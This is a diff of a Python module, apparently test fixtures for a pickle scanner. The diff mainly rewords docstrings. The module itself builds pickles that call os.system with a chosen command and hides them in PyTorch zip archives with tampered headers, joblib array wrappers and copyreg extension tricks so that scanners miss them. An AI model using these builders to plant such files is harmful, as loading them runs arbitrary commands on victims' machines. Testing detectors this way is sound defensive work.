@@ -1,4 +1,4 @@
-"""Pickles, and files with pickles in them, that hide a call of ``os.system`` from scanners."""
+"""Pickles and archives of pickles that hide a call of ``os.system`` from scanners."""
 
 from __future__ import annotations
 
@@ -21,31 +21,31 @@ LOOKUP = name("builtins", "getattr")
 
 
 def payload(command: str) -> bytes:
-    """The plain call, by protocol 4."""
+    """The plain call, in protocol 4."""
     return pickled(call(SYSTEM, text(command)))
 
 
 def plain(command: str) -> bytes:
-    """The plain call, by protocol 0."""
+    """The plain call, in protocol 0."""
     return b"cposix\nsystem\n(S'" + command.encode() + b"'\ntR."
 
 
-def zipped(content: bytes, **how: tuple[int, bytes]) -> bytes:
-    """PyTorch's zip with the content, and other bytes in a member, the directory or its end."""
+def zipped(content: bytes, **replacements: tuple[int, bytes]) -> bytes:
+    """A PyTorch zip with the content, and replaced bytes in a member header, the directory or the end record."""
     file = io.BytesIO()
     with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("archive/data.pkl", content)
         archive.writestr("archive/version", b"3")
     data = bytearray(file.getvalue())
     directory, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
-    for place, (offset, replacement) in how.items():
-        start = {"member": 0, "directory": directory, "end": end}[place]
+    for part, (offset, replacement) in replacements.items():
+        start = {"member": 0, "directory": directory, "end": end}[part]
         data[start + offset : start + offset + len(replacement)] = replacement
     return bytes(data)
 
 
 def wrapped(**state: tuple[bytes, bytes]) -> bytes:
-    """joblib's file with an array, some of whose state is replaced."""
+    """A joblib file with an array, in which parts of the array's state are replaced."""
     file = io.BytesIO()
     joblib.dump([np.arange(100.0), "end"], file)
     data = file.getvalue()
@@ -56,17 +56,17 @@ def wrapped(**state: tuple[bytes, bytes]) -> bytes:
 
 
 def array_in_joblib(content: bytes) -> bytes:
-    """joblib's file with an array of bytes without padding, as joblib up to 1.1 wrote it."""
+    """A joblib file with an array of bytes without padding, as written by joblib up to 1.1."""
     wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
-    kind = call(name("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
-    kind += several(number(3), text("|"), b"N", b"N", b"N", number(-1), number(-1), number(0)) + b"b"
+    dtype = call(name("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
+    dtype += several(number(3), text("|"), b"N", b"N", b"N", number(-1), number(-1), number(0)) + b"b"
     shape = several(number(len(content)))
-    state = table(subclass=name("numpy", "ndarray"), shape=shape, dtype=kind)
+    state = table(subclass=name("numpy", "ndarray"), shape=shape, dtype=dtype)
     return b"\x80\x04" + wrapper + state + b"b" + content + b"."
 
 
 def named_files(command: str) -> dict[str, bytes]:
-    """Files in which the call can be found, whatever they look like."""
+    """Disguised files in which the call can be found."""
     hidden, simple, argument = payload(command), plain(command), text(command)
     archive = zipped(hidden)
     return {
@@ -120,7 +120,7 @@ def named_files(command: str) -> dict[str, bytes]:
 
 
 def doubted_files(command: str) -> dict[str, bytes]:
-    """Files in which the call cannot be found by reading names alone."""
+    """Files in which the call cannot be found from the imported names alone."""
     argument = text(command)
     extension = call(name("copyreg", "add_extension"), text("posix"), text("system"), number(1))
     return {
